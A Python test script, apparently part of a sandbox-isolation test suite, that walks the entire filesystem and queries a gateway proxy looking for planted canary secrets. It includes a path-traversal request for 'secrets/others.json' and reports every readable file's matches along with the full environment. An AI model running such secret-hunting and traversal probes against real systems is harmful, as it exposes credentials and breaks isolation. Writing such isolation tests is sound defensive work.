"""AT-26: reads everything that can be read, looking for a secret fruit, and for one that is there to be found."""

from __future__ import annotations

import os
import re
import socket
import stat
import sys
from collections.abc import Iterator
from pathlib import Path

from schema.files import PROXY_SOCKET, SANDBOX_GATEWAY
from tests.hostile.attacks.evil import report

# Not spelt out, or this file would be what is found.
FRUIT = re.compile(b"(?:kum" + b"quat|med" + b"lar)[-_ a-z0-9]{0,40}")
MOST = 4 << 20
SKIPPED = ("/proc/kcore", "/proc/kmsg", "/sys/kernel")
LIBRARIES = ("/usr/lib", "/usr/share", "/opt/nanoclaw/packages", "/app/packages", f"{sys.base_prefix}/lib")
"""Of the image, of which the test looks at every layer's history, or of the machine; too much to read each time."""
ASKED = ("http://gw/api/x", "http://gw/api/../../secrets/others.json", "http://gw/", "http://127.0.0.1/")
"""Of the proxy, of whose socket this is the identity: a host that a secret is bound to is among them."""


def files(top: str) -> Iterator[Path]:
    """Every file below, special ones aside."""
    for folder, folders, names in os.walk(top):
        path = Path(folder)
        folders[:] = [
            name
            for name in folders
            if not str(path / name).startswith((*SKIPPED, *LIBRARIES)) and not (path / name).is_symlink()
        ]
        for name in names:
            yield path / name


def read(path: Path) -> bytes:
    """What is in it; nothing for what cannot be read."""
    try:
        if not stat.S_ISREG(path.lstat().st_mode):
            return b""
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    except OSError:
        return b""
    try:
        return os.read(descriptor, MOST)
    except OSError:
        return b""
    finally:
        os.close(descriptor)


def ask(target: str) -> bytes:
    """Everything that the proxy answers."""
    with socket.socket(socket.AF_UNIX) as plain:
        plain.settimeout(20)
        plain.connect(f"{SANDBOX_GATEWAY}/{PROXY_SOCKET}")
        plain.sendall(f"GET {target} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".encode())
        heard = b""
        while piece := plain.recv(1 << 16):
            heard += piece
        return heard


count = 0
hits: dict[str, list[str]] = {}
for one in files("/"):
    count += 1
    content = read(one)
    if fruit := sorted({match.decode() for match in FRUIT.findall(content)}):
        hits[str(one)] = fruit
answers = {target: ask(target) for target in ASKED}
for target, answer in answers.items():
    if fruit := sorted({match.decode() for match in FRUIT.findall(answer)}):
        hits[target] = fruit
statuses = {target: answer.split(b" ")[1].decode() for target, answer in answers.items()}
report(files=count, hits=hits, environment=dict(os.environ), statuses=statuses)
